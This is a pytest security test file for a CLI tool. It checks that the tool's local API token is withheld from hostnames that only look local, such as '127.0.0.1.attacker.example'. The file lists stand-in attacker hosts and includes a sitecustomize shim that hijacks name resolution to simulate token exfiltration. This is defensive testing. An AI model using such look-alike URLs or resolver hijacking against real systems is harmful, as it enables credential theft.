"""The CLI sends this machine's API token only to this machine.

The attack: ``--url http://127.0.0.1.attacker.example:8000`` (or a ``WATCHKEEPER_URL``
someone planted) looks local, but the name is whatever its DNS says. A real CLI process
runs with the token in its data dir against a real HTTP server on 127.0.0.1 that records
every request's ``Authorization``. The attacker's names are pointed at that server by a
``sitecustomize`` in the CLI's own process that answers name lookups for exactly those
names with 127.0.0.1, the way the attacker's DNS would (a shared machine's
``/etc/hosts`` is not ours to edit); every other lookup goes to the real resolver.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

LOCAL_TOKEN = "local-token-from-the-data-dir-0123456789"
ATTACKER_NAMES = [
    "127.0.0.1.attacker.example",
    "127.1.attacker.test",
    "127.0.0.1.nip.io",
    "localhost.evil",
    "localhost.attacker.example",
]
_SHIM = """
import os, socket
_names = set(os.environ.get("TEST_RESOLVE_TO_LOOPBACK", "").split(","))
_real = socket.getaddrinfo
def _getaddrinfo(host, *args, **kwargs):
    if isinstance(host, str) and host.lower() in _names:
        host = "127.0.0.1"
    return _real(host, *args, **kwargs)
socket.getaddrinfo = _getaddrinfo
"""


class Recorder(ThreadingHTTPServer):
    """A tiny HTTP server that notes (Host, Authorization) of every request."""

    daemon_threads = True

    def __init__(self) -> None:
        self.seen: list[tuple[str, str | None]] = []
        super().__init__(("127.0.0.1", 0), _Handler)

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        server = self.server
        assert isinstance(server, Recorder)
        server.seen.append((self.headers.get("Host", ""), self.headers.get("Authorization")))
        body = json.dumps({"detail": "recorded"}).encode()
        self.send_response(404)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet: the test reads ``seen``."""


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A config whose data dir holds the local API token, and the resolver shim."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "api_token").write_text(LOCAL_TOKEN + "\n")
    (data / "api_token").chmod(0o600)
    (tmp_path / "watchkeeper.toml").write_text(f"data_dir = {json.dumps(str(data))}\n")
    shim = tmp_path / "shim"
    shim.mkdir()
    (shim / "sitecustomize.py").write_text(_SHIM)
    return tmp_path


def run_cli(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("WATCHKEEPER_")}
    paths = [str(home / "shim"), *filter(None, [env.get("PYTHONPATH")])]
    env.update(
        PYTHONPATH=os.pathsep.join(paths),
        TEST_RESOLVE_TO_LOOPBACK=",".join(ATTACKER_NAMES),
        NO_COLOR="1",
    )
    config = str(home / "watchkeeper.toml")
    return subprocess.run(
        [sys.executable, "-m", "watchkeeper", "status", "--config", config, *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=30,
        check=False,
    )


@pytest.mark.parametrize("url", ["http://127.0.0.1:{port}", "http://localhost:{port}"])
def test_the_local_token_goes_to_this_machine(home: Path, recorder: Recorder, url: str) -> None:
    run_cli(home, "--url", url.format(port=recorder.port))
    assert recorder.seen, "the CLI never reached the server"
    assert {auth for _, auth in recorder.seen} == {f"Bearer {LOCAL_TOKEN}"}


@pytest.mark.parametrize("name", ATTACKER_NAMES)
def test_a_name_that_only_looks_local_gets_no_token(
    home: Path, recorder: Recorder, name: str
) -> None:
    result = run_cli(home, "--url", f"http://{name}:{recorder.port}")
    assert recorder.seen, f"the CLI never reached the server: {result.stderr}"
    hosts = {host for host, _ in recorder.seen}
    assert hosts == {f"{name}:{recorder.port}"}  # it really was this name's request
    assert {auth for _, auth in recorder.seen} == {None}, "the local token left this machine"
    assert LOCAL_TOKEN not in result.stdout + result.stderr


def test_an_explicit_token_goes_where_it_is_told(home: Path, recorder: Recorder) -> None:
    run_cli(
        home,
        "--url",
        f"http://127.0.0.1.attacker.example:{recorder.port}",
        "--token",
        "the-remote-daemons-own-token",
    )
    assert {auth for _, auth in recorder.seen} == {"Bearer the-remote-daemons-own-token"}


def test_an_unresolvable_look_alike_says_how_to_pass_a_token(
    home: Path, recorder: Recorder
) -> None:
    result = run_cli(home, "--url", f"http://127.0.0.1.nip.test:{recorder.port}")
    assert result.returncode == 3, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    assert "--token" in lines[0] and "127.0.0.1.nip.test" in lines[0]
    assert recorder.seen == []
